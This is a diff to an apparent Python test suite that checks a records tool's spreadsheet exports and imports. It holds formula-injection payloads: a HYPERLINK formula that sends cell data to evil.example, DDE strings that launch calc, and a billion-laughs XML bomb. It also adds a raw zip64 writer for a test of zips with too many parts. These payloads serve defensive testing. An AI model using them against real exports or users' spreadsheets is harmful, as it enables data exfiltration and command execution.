@@ -8,13 +8,15 @@ from __future__ import annotations
 import csv
 import io
 import re
+import struct
 import time
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
 
-from conftest import Office, edit, git
+from conftest import Office, copy_of, edit, git, made_once
 from svcctl.store import sheet_limits, sheets
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2,"张三(点击核对)")'
@@ -45,15 +47,25 @@ def csv_cells(data: bytes) -> list[list[str]]:
 
 # ------------------------------------------------------------------------------ exports
 
-@pytest.fixture
-def hostile(office) -> Office:
-    """An office whose records hold formulas where names, notes and summaries belong."""
+def _hostile(office: Office) -> None:
     office.run("customer", "add", "--name", HYPERLINK, "--phone", "13700000002", "--unit", "6-1-101",
                "--notes", "@SUM(1+1)*cmd|' /C calc'!A0")
     office.run("customer", "add", "--name", "+赵六", "--phone", "13700000003", "--unit", "6-1-102",
                "--notes", "-2+3+cmd|' /C calc'!A0")
     office.intake("--type", "repair", "--unit", "6-1-101", "--summary", DDE, "--detail", "-1+1 漏水")
-    return office
+    # Packed, the office is a few files to copy per test instead of one per object written.
+    git(office.root, "repack", "-a", "-d", "-q")
+
+
+@pytest.fixture(scope="module")
+def hostile_template(tmp_path_factory):
+    return made_once(tmp_path_factory, "hostile", _hostile)
+
+
+@pytest.fixture
+def hostile(hostile_template, tmp_path) -> Office:
+    """An office whose records hold formulas where names, notes and summaries belong."""
+    return copy_of(hostile_template, tmp_path)[0]
 
 
 def test_a_customer_named_as_a_formula_is_text_in_the_exported_workbook(hostile, tmp_path):
@@ -197,12 +209,15 @@ def worksheet(rows: str, dimension: str | None = "A1:C2", prolog: str = "") -> s
             + f"<sheetData>{rows}</sheetData></worksheet>")
 
 
+PARTS = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
+         "xl/_rels/workbook.xml.rels": WORKBOOK_RELS}
+
+
 def workbook(path: Path, sheet, **more) -> Path:
     """A workbook as a zip of XML parts written by hand; ``sheet`` is the sheet's XML, or a
     function that writes it to an open part (for parts too large to hold in memory)."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
-        for name, text in {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS,
-                           "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, **more}.items():
+        for name, text in {**PARTS, **more}.items():
             z.writestr(name, text)
         if callable(sheet):
             info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
@@ -282,11 +297,30 @@ def test_a_workbook_of_too_many_parts_is_refused(office, tmp_path):
 def test_a_zip_of_seventy_thousand_parts_is_counted_from_its_end_record(office, tmp_path):
     """Past 65,535 parts a zip says its count in the zip64 record; it is read from there,
     before Python's zip reader makes an entry for every part."""
-    book = workbook(tmp_path / "swarm.xlsx", worksheet(REGISTER_ROWS))
-    with zipfile.ZipFile(book, "a") as z:
-        for n in range(70_000):
-            z.writestr(f"x/{n}", b"")
-    assert "holds 70005 files" in refused(office, book)
+    parts = {**PARTS, "xl/worksheets/sheet1.xml": worksheet(REGISTER_ROWS), **{f"x/{n}": "" for n in range(70_000)}}
+    assert "holds 70005 files" in refused(office, stored_zip(tmp_path / "swarm.xlsx", parts))
+
+
+def stored_zip(path: Path, parts: dict[str, str]) -> Path:
+    """A zip of ``parts``, stored, its records written one by one as the format lays them out,
+    with the zip64 end record that a count past 65,535 needs (zipfile reads it back whole and
+    finds every CRC right). zipfile takes a second of CPU to write seventy thousand parts;
+    this, a tenth of that."""
+    dated = (2026 - 1980) << 9 | 11 << 5 | 20
+    local, central = bytearray(), bytearray()
+    for name, text in parts.items():
+        name_, data = name.encode(), text.encode()
+        crc = zlib.crc32(data)
+        central += struct.pack("<4s6H3L5H2L", b"PK\1\2", 45, 20, 0, 0, 0, dated, crc, len(data), len(data),
+                               len(name_), 0, 0, 0, 0, 0, len(local)) + name_
+        local += struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, dated, crc, len(data), len(data),
+                             len(name_), 0) + name_ + data
+    count, start, size = len(parts), len(local), len(central)
+    zip64_end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
+    locator = struct.pack("<4sLQL", b"PK\6\7", 0, start + size, 1)
+    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
+    path.write_bytes(local + central + zip64_end + locator + end)
+    return path
 
 
 BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
